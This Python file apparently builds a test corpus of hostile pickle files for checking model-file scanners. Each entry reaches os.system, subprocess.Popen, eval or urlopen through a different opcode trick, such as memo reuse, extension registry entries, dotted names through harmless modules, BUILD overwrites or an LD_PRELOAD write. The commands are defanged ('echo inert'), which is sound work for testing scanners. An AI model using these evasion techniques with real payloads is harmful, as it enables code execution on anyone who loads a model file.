"""Routes inside one pickle: how a callable is named, and how it is called."""

from __future__ import annotations

from typing import TYPE_CHECKING

from build import pickles as p
from route import Route

if TYPE_CHECKING:
    from collections.abc import Mapping

NAME = "model.pkl"
SYSTEM = p.global_("os", "system")
INERT = p.text("echo inert")
CALL = INERT + b"\x85R"
"""Calls what lies on the stack with one inert argument."""
EVIL = p.proto(2) + SYSTEM + CALL + p.STOP
"""The plain attack that the routes of other files wrap. Its opcodes are those of several protocols."""


def put(key: int) -> bytes:
    return b"q" + bytes([key])


def get(key: int) -> bytes:
    return b"h" + bytes([key])


def looked_up(owner: bytes, name: str) -> bytes:
    """The attribute of what `owner` leaves on the stack."""
    return p.global_("builtins", "getattr") + b"(" + owner + p.text(name) + b"tR"


def item(owner: bytes, key: str) -> bytes:
    """What the method `get` of a mapping gives."""
    return looked_up(owner, "get") + p.text(key) + b"\x85R"


def namespace(state: bytes) -> bytes:
    """An object of a harmless class with attributes of our choice: pairs of name and value."""
    return p.global_("argparse", "Namespace") + b")\x81}(" + state + b"ub"


def pickle(route: str, group: str, about: str, raw: bytes, reference: str = "CWE-502") -> Route:
    """One file that is one pickle."""

    def files() -> Mapping[str, bytes]:
        return {NAME: raw}

    return Route(route, group, about, reference, files)


def v4(body: bytes) -> bytes:
    return p.proto(4) + body + p.STOP


GLOBALS = looked_up(p.global_("collections", "namedtuple"), "__globals__")
MODULES = looked_up(item(GLOBALS, "_sys"), "modules")

CALLABLES = [
    pickle("global", "callable", "the plain attack: GLOBAL and REDUCE", EVIL),
    pickle(
        "protocol-0",
        "callable",
        "the same in text, without PROTO",
        b"cos\nsystem\np0\n(S'echo inert'\np1\ntp2\nRp3\n.",
    ),
    pickle("inst", "callable", "INST names and calls in one opcode", b"(S'echo inert'\nios\nsystem\n."),
    pickle("stack-global", "callable", "STACK_GLOBAL of two texts", v4(p.stack_global("os", "system") + CALL)),
    pickle(
        "stack-global-strings",
        "callable",
        "STACK_GLOBAL of two strings of protocol 1",
        v4(b"U\x02osU\x06system\x93" + CALL),
    ),
    pickle(
        "escaped-text",
        "callable",
        "the module's name written with a \\u escape",
        b"V\\u006fs\nVsystem\n\x93" + CALL + b".",
    ),
    pickle(
        "escaped-string",
        "callable",
        "the module's name written with a \\x escape",
        b"S'\\x6fs'\nS'system'\n\x93" + CALL + b".",
    ),
    pickle(
        "memo",
        "callable",
        "both names from the memo, stored in two ways",
        v4(
            p.text("os") + put(5) + b"0" + p.text("system") + b"r\x09\0\0\0" + b"0" + get(5) + b"j\x09\0\0\0\x93" + CALL
        ),
        "picklescan#14",
    ),
    pickle(
        "memo-overwritten",
        "callable",
        "a key of the memo stored twice; the second value counts",
        v4(p.text("json") + put(0) + b"0" + p.text("os") + put(0) + b"0" + get(0) + p.text("system") + b"\x93" + CALL),
        "picklescan#22",
    ),
    pickle(
        "memo-text-keys",
        "callable",
        "keys of the memo as numbers with leading zeros",
        b"Vos\np007\n0Vsystem\np8\n0g7\ng008\n\x93" + CALL + b".",
    ),
    pickle(
        "memo-number",
        "callable",
        "MEMOIZE counts for itself, so that the key stands nowhere",
        v4(p.text("os") + b"\x94" + p.text("system") + b"\x940(1" + b"0" + get(0) + get(1) + b"\x93" + CALL),
    ),
    pickle(
        "dup-decoy",
        "callable",
        "DUP and POP between the names",
        v4(p.text("os") + p.text("path") + b"0" + p.text("system") + b"20\x93" + CALL),
    ),
    pickle(
        "pop-mark-decoy",
        "callable",
        "harmless names above a mark that is thrown away",
        v4(p.text("os") + p.text("system") + b"(" + p.text("json") + p.text("loads") + b"1\x93" + CALL),
    ),
    pickle(
        "computed-name",
        "callable",
        "the name is what a harmless call gives back",
        v4(p.text("os") + p.call("builtins", "str", p.text("system")) + b"\x93" + CALL),
    ),
    pickle(
        "extension",
        "callable",
        "EXT1: the name lies in the registry of the loader",
        v4(b"\x82\xf0" + CALL),
        "modelaudit#623",
    ),
    pickle(
        "extension-filled",
        "callable",
        "the same, and the file fills the registry first",
        v4(p.call("copyreg", "add_extension", p.text("os"), p.text("system"), b"K\xf0") + b"0\x82\xf0" + CALL),
        "modelaudit#623",
    ),
    pickle(
        "dotted-stdlib",
        "callable",
        "a dotted name through a harmless module: random._os.system",
        v4(p.stack_global("random", "_os.system") + CALL),
        "GHSA-5j3x-jp52-966f",
    ),
    pickle(
        "dotted-framework",
        "callable",
        "the same through torch.serialization",
        v4(p.stack_global("torch.serialization", "os.system") + CALL),
        "GHSA-5j3x-jp52-966f",
    ),
    pickle(
        "dotted-numpy",
        "callable",
        "the same with GLOBAL, through a module of numpy",
        v4(p.global_("numpy.lib.format", "os.system") + CALL),
        "modelscan#85",
    ),
    pickle(
        "dotted-globals",
        "callable",
        "__globals__ of a harmless function, asked for a module",
        v4(p.stack_global("collections", "namedtuple.__globals__.get") + p.text("_sys") + b"\x85R"),
    ),
    pickle(
        "python-2-eval",
        "callable",
        "a name of Python 2 that loaders translate: __builtin__.eval",
        p.proto(2) + p.global_("__builtin__", "eval") + p.text("0") + b"\x85R.",
    ),
    pickle(
        "python-2-commands",
        "callable",
        "the same: commands.getoutput",
        p.proto(2) + p.global_("commands", "getoutput") + CALL + b".",
    ),
    pickle(
        "python-2-url",
        "callable",
        "the same: urllib2.urlopen",
        p.proto(2) + p.global_("urllib2", "urlopen") + p.text("https://example.invalid/") + b"\x85R.",
        "CWE-918",
    ),
    pickle("alias-posix", "callable", "os.system by its other name, posix", v4(p.global_("posix", "system") + CALL)),
    pickle("alias-nt", "callable", "and by its name on Windows, nt", v4(p.global_("nt", "system") + CALL)),
    pickle(
        "getattr-import",
        "callable",
        "getattr of a module that import_module gave",
        v4(looked_up(p.call("importlib", "import_module", p.text("os")), "system") + CALL),
        "GHSA-q5qq-mvfm-j35x",
    ),
    pickle(
        "getattr-chain",
        "callable",
        "getattr in a chain, from a harmless function to os.system",
        v4(looked_up(item(MODULES, "os"), "system") + CALL),
    ),
    pickle(
        "attrgetter",
        "callable",
        "operator.attrgetter instead of getattr",
        v4(
            p.call("operator", "attrgetter", p.text("system"))
            + p.call("importlib", "import_module", p.text("os"))
            + b"\x85R"
            + CALL
        ),
        "GHSA-46h3-79wf-xr6c",
    ),
    pickle(
        "persistent-id",
        "callable",
        "a callable where a persistent id names the storage class",
        p.proto(2) + b"(" + p.text("storage") + SYSTEM + p.text("0") + p.text("cpu") + b"K\x01tQ.",
    ),
    Route(
        "sibling-module",
        "callable",
        "an import of Python code that lies beside the file",
        "CWE-829",
        lambda: {NAME: v4(p.global_("helper", "Net") + b")R"), "helper.py": b"import os\n\nos.system('echo inert')\n"},
    ),
]
CALLS = [
    pickle("newobj", "call", "NEWOBJ", v4(p.global_("subprocess", "Popen") + INERT + b"\x85\x81")),
    pickle("newobj-ex", "call", "NEWOBJ_EX with keywords", v4(p.global_("subprocess", "Popen") + INERT + b"\x85}\x92")),
    pickle("obj", "call", "OBJ", v4(b"(" + SYSTEM + INERT + b"o")),
    pickle("obj-popped", "call", "OBJ, its result dropped", v4(b"(" + SYSTEM + INERT + b"o0N"), "GHSA-mxhj-88fx-4pcv"),
    pickle("popped", "call", "REDUCE, its result dropped", v4(SYSTEM + CALL + b"0N")),
    pickle("popped-with-mark", "call", "the same with POP_MARK", v4(b"(" + SYSTEM + CALL + b"1N")),
    pickle("memo-only", "call", "the result stays in the memo alone", v4(SYSTEM + CALL + put(9) + b"0}")),
    pickle(
        "before-protocol",
        "call",
        "the call stands before the PROTO of an honest pickle",
        SYSTEM + CALL + b"0" + p.proto(4) + b"}.",
    ),
    pickle(
        "in-a-state",
        "call",
        "a call deep in the state of an object",
        v4(namespace(p.text("a") + b"](" + SYSTEM + CALL + b"e")),
    ),
    pickle("named-only", "call", "named, never called: the importer does", v4(SYSTEM)),
    pickle(
        "default-factory",
        "call",
        "a defaultdict that calls it at the first missing key",
        v4(p.call("collections", "defaultdict", p.global_("os", "abort"))),
    ),
    pickle(
        "build-function",
        "call",
        "BUILD changes the defaults of a function that others call",
        v4(p.global_("collections", "namedtuple") + b"N}" + p.text("__kwdefaults__") + b"}s\x86b"),
        "modelscan#330",
    ),
    pickle(
        "build-class",
        "call",
        "BUILD replaces a method of a harmless class",
        v4(p.global_("argparse", "Namespace") + b"N}" + p.text("__init__") + SYSTEM + b"s\x86b"),
        "modelscan#330",
    ),
    pickle(
        "append",
        "call",
        "APPEND on an object whose append is os.system",
        v4(namespace(p.text("append") + SYSTEM) + INERT + b"a"),
    ),
    pickle(
        "additems",
        "call",
        "ADDITEMS on an object whose add is os.system",
        v4(namespace(p.text("add") + SYSTEM) + b"(" + INERT + b"\x90"),
    ),
    pickle(
        "setitem-environment",
        "call",
        "SETITEM writes the environment",
        v4(p.global_("os", "environ") + p.text("LD_PRELOAD") + p.text("inert.so") + b"s"),
        "CWE-73",
    ),
    pickle(
        "setitem-modules",
        "call",
        "SETITEM replaces a module that was imported",
        v4(p.global_("sys", "modules") + p.text("json") + b"Ns"),
    ),
]
ROUTES = [*CALLABLES, *CALLS]
